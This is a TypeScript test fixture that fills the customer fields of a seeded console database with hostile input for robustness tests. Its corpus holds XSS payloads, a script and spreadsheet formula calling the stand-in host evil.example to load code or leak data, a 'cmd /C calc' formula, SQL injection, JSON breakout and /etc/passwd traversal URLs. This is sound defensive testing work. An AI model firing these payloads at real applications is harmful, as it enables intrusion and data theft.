import type { DbState } from '../db';
import type { Cancellation, Verification } from '../../src/domain/types';

// Hostile customer input: every string a customer could type that has broken a web console somewhere. makeHostile()
// writes it into every customer-supplied field of the seeded requests, for the robustness tests (tests/robustness, e2e).

export interface HostileString {
    /** The category, e.g. "script-tag": tests name their cases after it. */
    name: string;
    text: string;
}

/** Markers a test can look for on `window`: a payload that runs sets one of them. */
export const HACKED_FLAG = '__hacked';

export const HOSTILE_STRINGS: readonly HostileString[] = [
    { name: 'script-tag', text: '<script>window.__hacked=1</script>' },
    { name: 'script-tag-src', text: '<script src="https://evil.example/x.js"></script>' },
    { name: 'img-onerror', text: '<img src=x onerror="window.__hacked=1">' },
    { name: 'svg-onload', text: '<svg onload="window.__hacked=1"><circle r="9"/></svg>' },
    { name: 'event-handler-attribute', text: '" autofocus onfocus="window.__hacked=1" x="' },
    { name: 'single-quote-attribute-breakout', text: "' onmouseover='window.__hacked=1' '" },
    { name: 'iframe-srcdoc', text: '<iframe srcdoc="<script>parent.__hacked=1</script>"></iframe>' },
    { name: 'object-data', text: '<object data="javascript:window.__hacked=1"></object>' },
    { name: 'anchor-javascript', text: '<a href="javascript:window.__hacked=1">click me</a>' },
    { name: 'javascript-url', text: 'javascript:window.__hacked=1' },
    { name: 'data-html-url', text: 'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19oYWNrZWQ9MTwvc2NyaXB0Pg==' },
    { name: 'vbscript-url', text: 'vbscript:msgbox("hacked")' },
    { name: 'html-entities', text: '&lt;b&gt;bold&lt;/b&gt; &amp;amp; &#60;script&#62; &quot;' },
    { name: 'style-tag', text: '<style>body{display:none}</style><div style="position:fixed;inset:0;background:red">' },
    { name: 'template-mustache', text: '{{constructor.constructor("window.__hacked=1")()}}' },
    { name: 'template-literal', text: '${window.__hacked=1}' },
    { name: 'polyglot-interpolation', text: '%{holder} %{id} %s %d {0} {{id}} #{7*7} <%= 7*7 %>' },
    { name: 'rtl-override', text: 'Invoice \u202Egnp.exe\u202C paid' },
    { name: 'bidi-isolates', text: '\u2067\u05E9\u05DC\u05D5\u05DD\u2069 \u2066abc\u2069 \u2068\u0645\u0631\u062D\u0628\u0627\u2069 \u200F\u200E' },
    { name: 'zero-width', text: 'Zhang\u200B\u200C\u200D\uFEFF\u2060San' },
    { name: 'combining-marks', text: 'Z\u0351\u0368\u0306\u0334a\u036B\u0350\u0337l\u0306\u036A\u0335g\u0310\u0338o\u0343\u0336' },
    { name: 'long-unbroken', text: `A${'x'.repeat(9_998)}Z` },
    { name: 'long-words', text: Array.from({ length: 60 }, (_, i) => `Supercalifragilistic${i}`).join(' ') },
    { name: 'emoji-zwj', text: '\u{1F469}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466} \u{1F3F3}\uFE0F\u200D\u{1F308} \u{1F9D1}\u{1F3FD}\u200D\u{1F4BB}' },
    { name: 'emoji-flags', text: '\u{1F1E8}\u{1F1F3}\u{1F1EE}\u{1F1E9}\u{1F1FA}\u{1F1F8}\u{1F3F4}\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}' },
    { name: 'sql-injection', text: "Robert'); DROP TABLE verifications;--" },
    { name: 'csv-formula', text: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")' },
    { name: 'csv-formula-variants', text: '+cmd|\' /C calc\'!A0' },
    { name: 'control-characters', text: 'line1\nline2\r\ttabbed\u0001\u0007\u001B[31mred\u007F' },
    { name: 'nul-character', text: 'before\u0000after' },
    { name: 'lone-surrogate', text: 'broken \uD800 pair \uDC00 end' },
    { name: 'markdown-link', text: '[click](javascript:window.__hacked=1) ![x](https://evil.example/x.png)' },
    { name: 'polyglot', text: 'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=window.__hacked=1 )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.__hacked=1//>\\x3e' },
    { name: 'json-breakout', text: '"}],"status":"approved","x":[{"' },
    { name: 'prototype-keys', text: '__proto__ constructor toString hasOwnProperty' },
    { name: 'whitespace-only', text: ' \u00A0\u3000\t ' },
    { name: 'mixed-scripts', text: '张三 Ivan Иванов محمد 田中 ñandú' },
];

export interface HostileUrl {
    name: string;
    url: string;
}

/** Document addresses a compromised or buggy backend could send; only image URLs on allowed origins may load. */
export const HOSTILE_URLS: readonly HostileUrl[] = [
    { name: 'javascript-url', url: 'javascript:window.__hacked=1' },
    { name: 'javascript-mixed-case', url: 'JaVaScRiPt:window.__hacked=1' },
    { name: 'javascript-tab', url: 'java\tscript:window.__hacked=1' },
    { name: 'data-html', url: 'data:text/html,<script>window.__hacked=1</script>' },
    { name: 'data-html-base64', url: 'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19oYWNrZWQ9MTwvc2NyaXB0Pg==' },
    { name: 'data-svg-script', url: 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="window.__hacked=1"/>' },
    { name: 'vbscript-url', url: 'vbscript:msgbox("hacked")' },
    { name: 'foreign-https', url: 'https://evil.example/track.png' },
    { name: 'foreign-http', url: 'http://evil.example/x.png' },
    { name: 'protocol-relative', url: '//evil.example/x.png' },
    { name: 'blob-junk', url: 'blob:not-a-real-blob' },
    { name: 'relative-traversal', url: '../../../../etc/passwd' },
    { name: 'file-url', url: 'file:///etc/passwd' },
    { name: 'credentials-in-url', url: 'https://user:pass@evil.example/x.png' },
];

export type VerificationTextField =
    | 'fullName' | 'idNumber' | 'contactPhone' | 'address' | 'email' | 'mobileNumber'
    | 'card.name' | 'card.idNumber' | 'card.validFrom' | 'card.validUntil';
export type CancellationTextField =
    | 'holderName' | 'leavingReason' | 'email' | 'mobileNumber' | 'account.accountId' | 'account.refundReference'
    | 'account.boundDevices[].name' | 'account.openItems[].description';
export type DocumentField = 'documents.idFront' | 'documents.idBack' | 'documents.selfie' | 'idScan';

export const VERIFICATION_TEXT_FIELDS: readonly VerificationTextField[] = [
    'fullName', 'idNumber', 'contactPhone', 'address', 'email', 'mobileNumber', 'card.name', 'card.idNumber', 'card.validFrom', 'card.validUntil',
];
export const CANCELLATION_TEXT_FIELDS: readonly CancellationTextField[] = [
    'holderName', 'leavingReason', 'email', 'mobileNumber', 'account.accountId', 'account.refundReference', 'account.boundDevices[].name', 'account.openItems[].description',
];

export interface HostileAssignment {
    requestId: string;
    kind: 'verification' | 'cancellation';
    field: VerificationTextField | CancellationTextField | DocumentField;
    /** The corpus entry's name (HOSTILE_STRINGS or HOSTILE_URLS). */
    name: string;
    value: string;
}

export interface HostileReport {
    strings: readonly HostileString[];
    urls: readonly HostileUrl[];
    assignments: HostileAssignment[];
    /** For each field (prefixed `verification.` or `cancellation.`), the corpus names it received. */
    coverage: Record<string, string[]>;
}

const setVerificationText: Record<VerificationTextField, (v: Verification, text: string) => void> = {
    fullName: (v, t) => { v.fullName = t; },
    idNumber: (v, t) => { v.idNumber = t; },
    contactPhone: (v, t) => { v.contactPhone = t; },
    address: (v, t) => { v.address = t; },
    email: (v, t) => { v.email = t; },
    mobileNumber: (v, t) => { v.mobileNumber = t; },
    'card.name': (v, t) => { v.card.name = t; },
    'card.idNumber': (v, t) => { v.card.idNumber = t; },
    'card.validFrom': (v, t) => { v.card.validFrom = t; },
    'card.validUntil': (v, t) => { v.card.validUntil = t; },
};

const setCancellationText: Record<Exclude<CancellationTextField, `account.${string}[].${string}`>, (c: Cancellation, text: string) => void> = {
    holderName: (c, t) => { c.holderName = t; },
    leavingReason: (c, t) => { c.leavingReason = t; },
    email: (c, t) => { c.email = t; },
    mobileNumber: (c, t) => { c.mobileNumber = t; },
    'account.accountId': (c, t) => { c.account.accountId = t; },
    'account.refundReference': (c, t) => { c.account.refundReference = t; },
};

/** Open requests first, oldest due first (roughly the queue's first page), then the decided ones. */
function queueFirst<T extends Verification | Cancellation>(records: T[]): T[] {
    const open = (r: T) => r.status === 'pending' || r.status === 'in_review' || r.status === 'awaiting_second_approval';
    return [...records].sort((a, b) => Number(open(b)) - Number(open(a)) || a.dueAt.localeCompare(b.dueAt) || a.id.localeCompare(b.id));
}

/**
 * Writes the corpus into every customer-supplied field of the seeded requests, in place: record r's field f gets
 * string (r + f) mod N, so each field receives every string across N records and the queue's first page carries
 * many of them. List fields (devices, open items) are walked in one sequence across records; records that already
 * have devices or items get extra ones until every string has landed (no request changes its preconditions).
 * Document addresses cycle through HOSTILE_URLS. Call db.reindex() afterwards.
 */
export function makeHostile(state: DbState): HostileReport {
    const assignments: HostileAssignment[] = [];
    const coverage: Record<string, string[]> = {};
    const n = HOSTILE_STRINGS.length;
    const record = (kind: HostileAssignment['kind'], requestId: string, field: HostileAssignment['field'], entry: HostileString | HostileUrl) => {
        const value = 'text' in entry ? entry.text : entry.url;
        assignments.push({ requestId, kind, field, name: entry.name, value });
        (coverage[`${kind}.${field}`] ??= []).push(entry.name);
    };

    const verifications = queueFirst(state.verifications);
    verifications.forEach((v, r) => {
        VERIFICATION_TEXT_FIELDS.forEach((field, f) => {
            const entry = HOSTILE_STRINGS[(r + f) % n]!;
            setVerificationText[field](v, entry.text);
            record('verification', v.id, field, entry);
        });
        (['idFront', 'idBack', 'selfie'] as const).forEach((key, d) => {
            if (v.documents[key] === null) return;
            const entry = HOSTILE_URLS[(r + d) % HOSTILE_URLS.length]!;
            v.documents[key] = entry.url;
            record('verification', v.id, `documents.${key}`, entry);
        });
    });

    const cancellations = queueFirst(state.cancellations);
    const fixed = Object.keys(setCancellationText) as (keyof typeof setCancellationText)[];
    cancellations.forEach((c, r) => {
        fixed.forEach((field, f) => {
            const entry = HOSTILE_STRINGS[(r + f) % n]!;
            setCancellationText[field](c, entry.text);
            record('cancellation', c.id, field, entry);
        });
        if (c.idScan !== null) {
            const entry = HOSTILE_URLS[r % HOSTILE_URLS.length]!;
            c.idScan = entry.url;
            record('cancellation', c.id, 'idScan', entry);
        }
    });

    // Devices and open items: one running sequence, so that short lists still carry every string.
    const withDevices = cancellations.filter(c => c.account.boundDevices.length > 0);
    const withItems = cancellations.filter(c => c.account.openItems.length > 0);
    let next = 0;
    withDevices.forEach(c => c.account.boundDevices.forEach(device => {
        const entry = HOSTILE_STRINGS[next++ % n]!;
        device.name = entry.text;
        record('cancellation', c.id, 'account.boundDevices[].name', entry);
    }));
    for (let extra = 0; next < n && withDevices.length > 0; extra++) {
        const c = withDevices[extra % withDevices.length]!;
        const entry = HOSTILE_STRINGS[next++]!;
        const template = c.account.boundDevices[0]!;
        c.account.boundDevices.push({ ...template, id: `${template.id}-h${extra}`, name: entry.text });
        record('cancellation', c.id, 'account.boundDevices[].name', entry);
    }
    next = 0;
    withItems.forEach(c => c.account.openItems.forEach(item => {
        const entry = HOSTILE_STRINGS[next++ % n]!;
        item.description = entry.text;
        record('cancellation', c.id, 'account.openItems[].description', entry);
    }));
    for (let extra = 0; next < n && withItems.length > 0; extra++) {
        const c = withItems[extra % withItems.length]!;
        const entry = HOSTILE_STRINGS[next++]!;
        const template = c.account.openItems[0]!;
        // Zero rupiah: the extra line changes no balance or precondition figure.
        c.account.openItems.push({ ...template, id: `${template.id}-h${extra}`, description: entry.text, amount: 0 });
        record('cancellation', c.id, 'account.openItems[].description', entry);
    }

    return { strings: HOSTILE_STRINGS, urls: HOSTILE_URLS, assignments, coverage };
}
